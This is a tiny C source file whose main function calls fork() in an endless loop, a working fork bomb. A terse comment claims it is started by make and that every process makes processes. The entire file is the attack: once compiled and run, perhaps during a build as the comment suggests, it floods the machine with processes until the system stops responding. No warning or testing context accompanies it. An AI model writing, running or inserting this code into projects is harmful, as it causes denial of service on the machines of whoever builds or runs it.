// Started by make, where nobody has a run yet: every process makes processes, and works.

#include <unistd.h>

int main(void) {
    for (;;) fork();
}
